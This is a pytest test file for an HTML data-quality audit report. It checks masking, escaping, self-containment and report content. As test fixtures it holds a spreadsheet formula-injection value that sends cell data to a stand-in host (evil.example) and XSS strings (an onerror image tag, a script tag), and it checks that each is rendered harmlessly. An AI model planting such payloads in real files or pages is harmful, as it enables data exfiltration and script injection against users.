"""The HTML report without a browser: content, escaping, masking, self-containment, golden file.

What a browser makes of the page is tested in test_html_browser.py.
"""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Callable
from html.parser import HTMLParser

import polars as pl
import pytest

from tests.reports.fixture_extras import (
    CLUSTERED_RULE,
    SCRIPT_SEGMENT,
    FakeDuplicateDetails,
    with_details,
    with_extras,
    with_segments,
)
from tests.reports.report_fixture import (
    ESCAPE_VALUE,
    FORMULA_VALUE,
    build_result,
    normalise,
)
from tests.reports.test_report_masking import RAW_FRAGMENTS
from veracity.reports import render
from veracity.reports.html import render as render_html
from veracity.results import AuditResult, RecordScores

Golden = Callable[[str, str], None]

# Elements without an end tag in HTML. The template closes its SVG elements explicitly
# (<circle ...></circle>), so they need no exception.
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


class _Page(HTMLParser):
    """Collects what the tests look at: tags, attributes, ids, text, and nesting errors."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.errors: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self._skip = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag in ("style", "title"):
            self._skip += 1
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if tag in ("style", "title"):
            self._skip -= 1
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> closes <{self.stack[-1] if self.stack else '(nothing)'}>")
            return
        self.stack.pop()

    def handle_data(self, data: str) -> None:
        if not self._skip:
            self.text.append(data)

    @property
    def visible_text(self) -> str:
        return re.sub(r"\s+", " ", " ".join(self.text))


def _parse(html: str) -> _Page:
    page = _Page()
    page.feed(html)
    page.close()
    return page


@pytest.fixture
def rich_result(audit_result: AuditResult) -> AuditResult:
    return with_extras(audit_result)


def test_html_matches_golden(audit_result: AuditResult, golden: Golden) -> None:
    golden("report.html", normalise(render(audit_result, "html"), audit_result))


def test_volatile_fields_are_the_only_difference_between_runs(audit_result: AuditResult) -> None:
    other = build_result(started_at="1999-01-01T00:00:00Z")
    assert normalise(render(other, "html"), other) == normalise(render(audit_result, "html"), audit_result)


@pytest.mark.parametrize("reveal", [False, True])
def test_tags_are_balanced(rich_result: AuditResult, reveal: bool) -> None:
    page = _parse(render_html(rich_result, reveal_values=reveal))
    assert page.errors == []
    assert page.stack == []
    assert render_html(rich_result, reveal_values=reveal).startswith('<!DOCTYPE html>\n<html lang="en">')


@pytest.mark.parametrize("reveal", [False, True])
def test_page_is_self_contained(rich_result: AuditResult, reveal: bool) -> None:
    html = render_html(rich_result, reveal_values=reveal)
    page = _parse(html)
    tags = {tag for tag, _ in page.tags}
    assert not tags & {"script", "link", "img", "iframe", "object", "embed", "base", "form", "audio", "video"}
    for tag, attrs in page.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), f"<{tag} {name}>: an event handler needs script"
            assert name not in ("src", "srcset", "action", "formaction", "background", "poster"), (tag, name)
            if name in ("href", "xlink:href"):
                assert (value or "").startswith("#"), f"<{tag} href={value!r}> leaves the page"
    style = html[html.index("<style>") : html.index("</style>")]
    assert "url(" not in style
    assert "@import" not in style
    assert "@font-face" not in style
    if not reveal:
        # Masked, nothing in the page is an address at all (the SVG needs no xmlns in HTML).
        assert "http://" not in html
        assert "https://" not in html


def test_page_forbids_every_fetch(audit_result: AuditResult) -> None:
    meta = [attrs for tag, attrs in _parse(render_html(audit_result)).tags if tag == "meta"]
    policy = next(a["content"] for a in meta if a.get("http-equiv") == "Content-Security-Policy")
    assert policy is not None
    assert policy.startswith("default-src 'none';")
    assert "script-src" not in policy


def test_fragment_links_have_targets(rich_result: AuditResult) -> None:
    page = _parse(render_html(rich_result))
    ids = [attrs["id"] for _, attrs in page.tags if "id" in attrs]
    assert len(ids) == len(set(ids)), "duplicate ids"
    links = [attrs["href"] for _, attrs in page.tags if "href" in attrs]
    assert links
    for link in links:
        assert (link or "")[1:] in ids, link


def test_scores_rules_and_gate_are_shown(audit_result: AuditResult) -> None:
    page = _parse(render_html(audit_result))
    text = page.visible_text
    assert "Quality gate FAIL" in text
    assert "88.47" in text
    assert "minimum 95.00" in text
    assert "score 88.47 is below the minimum 95.00" in text
    for dimension, score in [("Completeness", "100.00"), ("Validity", "97.94"), ("Consent", "75.00")]:
        assert re.search(rf"{dimension} {score}", text), dimension
    assert "Timeliness not evaluated" in text
    for rule in audit_result.rules:
        assert rule.id in text
    assert "✘ Fail email-valid" in text
    assert "98.54%" in text
    assert "99.00%" in text
    assert "rules/customers.yaml:12:5" in text
    assert "when country == 'DE' and signup_date is not null" in text


def test_passing_gate(audit_result: AuditResult) -> None:
    passed = dataclasses.replace(
        audit_result, gate=dataclasses.replace(audit_result.gate, passed=True, reasons=[])
    )
    text = _parse(render_html(passed)).visible_text
    assert "Quality gate PASS" in text
    assert "Every error rule met its threshold and the score its minimum." in text


def test_no_raw_value_by_default(rich_result: AuditResult) -> None:
    html = render_html(rich_result)
    leaked = [fragment for fragment in RAW_FRAGMENTS if fragment in html]
    assert not leaked
    text = _parse(html).visible_text
    assert "j***@e***.com" in text
    assert "+49 *** *** 00" in text
    assert "Values from the data are masked" in text


def test_revealed_values_are_escaped(rich_result: AuditResult) -> None:
    html = render_html(rich_result, reveal_values=True)
    assert "jane.doe@example.com" in html
    assert "=HYPERLINK(&#34;http://evil.example/?d=&#34;&amp;A1,&#34;Click&#34;)" in html
    assert FORMULA_VALUE in _parse(html).visible_text
    # Control characters are shown as escapes, as in every format, never raw.
    assert "\x1b" not in html
    assert ESCAPE_VALUE.replace("\x1b", "\\x1b") in html
    assert "Am Markt 3\\nApt 4" in html
    assert "this page contains personal data" in html


def test_markup_from_the_data_or_rule_file_stays_text(rich_result: AuditResult) -> None:
    hostile = "<img src=x onerror=alert(1)>"
    rules = [dataclasses.replace(rich_result.rules[0], description=hostile), *rich_result.rules[1:]]
    html = render_html(dataclasses.replace(rich_result, rules=rules), reveal_values=True)
    assert "<img" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "<script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert SCRIPT_SEGMENT in _parse(html).visible_text


def _card(html: str, anchor: str) -> str:
    start = html.index(f'id="{anchor}"')
    end = html.find('<div class="card"', start)
    return html[start : end if end != -1 else len(html)]


def test_most_frequent_failing_values(audit_result: AuditResult) -> None:
    consent = _parse(_card(render_html(audit_result), "rule-consent-before-contact")).visible_text
    # 257 "no" and 43 missing out of 300: masked, most frequent first, with their shares.
    assert re.search(r"Most frequent failing values \*\*\* 257 85\.7% \(missing\) 43 14\.3%", consent)
    assert "2 distinct values in 300 findings; counted before masking" in consent


def test_values_are_counted_before_masking(audit_result: AuditResult) -> None:
    email = _parse(_card(render_html(audit_result), "rule-email-valid")).visible_text
    # 17 different addresses mask to the same "u***@e***"; they are 17 values, not one.
    assert " 17 " not in email
    assert "21 distinct values in 21 findings" in email


def test_first_failing_records_per_rule(audit_result: AuditResult) -> None:
    email = _parse(_card(render_html(audit_result), "rule-email-valid")).visible_text
    assert "exports/customers.csv:14 C-000012 j***@e***.com domain does not accept e-mail" in email
    assert "…and 16 more in the findings file" in email
    html = render_html(audit_result)
    # Passing rules get no card, even the one with failures inside its threshold.
    assert 'id="rule-customer-id-unique"' not in html
    assert 'id="rule-street-format"' in html


def test_duplicate_clusters_from_details(audit_result: AuditResult) -> None:
    html = render_html(with_details(audit_result))
    text = _parse(_card(html, f"rule-{CLUSTERED_RULE}-details")).visible_text
    # Counts from to_dict(), nested objects flattened, lists of objects as tables.
    assert "Clusters 2 Records in clusters 6" in text
    assert "Model.em converged yes" in text
    assert "Model.prior 0.000412" in text
    assert "Blocking (2) Keys Pairs New pairs postal_code 4,100 4,100 email 1,300 1,110" in text
    assert "Model.comparisons (2)" in text
    assert "level=exact m=0.91 u=0.0021 weight=8.759; level=else m=0.09 u=0.9979 weight=-3.471" in text
    # The first clusters, from the findings' cluster ids.
    assert (
        "Clusters in the findings (2) Cluster Records flagged Where Record keys Message "
        "1 2 exports/customers.csv:101, exports/customers.csv:102 C-000099, C-000099 duplicate customer_id "
        "2 2 exports/crm_contacts.xlsx:130, exports/crm_contacts.xlsx:131 100007, 100007 duplicate customer_id"
    ) in text
    assert "4 records flagged in 2 clusters" in text


def test_only_the_first_clusters_are_listed(audit_result: AuditResult) -> None:
    result = with_details(audit_result)
    many = result.findings.with_columns(
        cluster_id=pl.when(pl.col("rule") == "consent-before-contact")
        .then(pl.int_range(pl.len()).over("rule") // 3)
        .otherwise(pl.col("cluster_id"))
    )
    details = {"consent-before-contact": FakeDuplicateDetails()}
    html = render_html(dataclasses.replace(result, findings=many, details=details))
    text = _parse(_card(html, "rule-consent-before-contact-details")).visible_text
    assert "Clusters in the findings (100)" in text
    assert "…and 95 more in the findings file." in text
    assert "300 records flagged in 100 clusters" in text


def test_details_of_any_shape_render(audit_result: AuditResult) -> None:
    class Opaque:
        def to_dict(self) -> object:
            return ["not", "a", "mapping"]

    nested = {"a": {"b": {"c": 1}}, "pairs": [{"x": [{"y": 1}] * 3}], "nan": float("nan"), "flag": True}
    result = dataclasses.replace(audit_result, details={"phone-valid": Opaque(), "unknown-rule": nested})
    text = _parse(render_html(result)).visible_text
    assert "Details not, a, mapping" in text
    assert "A.b.c 1" in text
    assert "Pairs (1)" in text
    assert "Nan —" in text
    assert "Flag yes" in text


def test_segments(audit_result: AuditResult) -> None:
    text = _parse(render_html(with_segments(audit_result))).visible_text
    assert "Scores by country" in text
    assert "Scores by source" in text
    assert "(missing) 90 70.30" in text
    assert "(other) merges the 4 smallest segments." in text
    assert "Rule pass rates by country" in text
    assert re.search(r"Rule DE AT <script>alert\(1\)</script> \(missing\) \(other\)", text)


def test_lineage_and_sources(audit_result: AuditResult) -> None:
    text = _parse(render_html(audit_result)).visible_text
    assert (
        "customer_id — no exports/customers.csv › Customer ID exports/crm_contacts.xlsx › id (int64)" in text
    )
    assert "email order confirmations and the newsletter yes exports/customers.csv › E-Mail" in text
    assert "renamed from 'Customer ID' (exports/customers.csv)" in text
    assert "0 exports/customers.csv csv 1,200 470.8 KB 3b4c1f0e9a7d utf-8 ; n/a -" in text
    assert "1 exports/crm_contacts.xlsx xlsx (Contacts) 240 20.0 KB a9e8d7c6b5a4 — — —" in text


def test_record_score_histogram(audit_result: AuditResult) -> None:
    html = render_html(audit_result)
    assert html.count('<rect class="bin"') == 10
    assert "<title>90–100: 1,069 records</title>" in html
    text = _parse(html).visible_text
    assert "Mean 96.81 Median 100.00 p25 100.00 p10 83.33 Minimum 40.00 Pass every rule 74.2%" in text


def test_an_empty_audit_renders(audit_result: AuditResult) -> None:
    empty = dataclasses.replace(
        audit_result,
        rules=[],
        dimensions=[],
        sources=[],
        lineage=[],
        findings=audit_result.findings.clear(),
        records=RecordScores(0, None, None, None, None, None, None, []),
    )
    page = _parse(render_html(empty))
    assert page.errors == []
    assert "No rules were run." in page.visible_text


# The overall score's ring follows the gate's decision, not fixed score bands: a green ring
# beside a failed gate (a failed error rule with a high score) told the reader the opposite.
@pytest.mark.parametrize(
    ("score", "passed", "warnings", "tone"),
    [
        (99.5, False, [], "poor"),  # high score, failed gate: red
        (99.5, True, [], "good"),
        (60.0, True, [], "good"),  # the gate passed (no minimum): its decision decides
        (99.5, True, ["rule r evaluated no record"], "fair"),  # passed with warnings: amber
        (None, False, [], "none"),  # nothing evaluated: no score, grey
    ],
)
def test_score_ring_follows_the_gate(
    audit_result: AuditResult, score: float | None, passed: bool, warnings: list[str], tone: str
) -> None:
    gate = dataclasses.replace(
        audit_result.gate, passed=passed, min_score=None, reasons=[] if passed else ["x"], warnings=warnings
    )
    text = render_html(dataclasses.replace(audit_result, score=score, gate=gate))
    (ring,) = re.findall(r'class="gauge-fill stroke-(\w+)"', text)
    assert ring == tone
    if score is None:
        assert '<text class="gauge-value" x="60" y="64">—</text>' in text
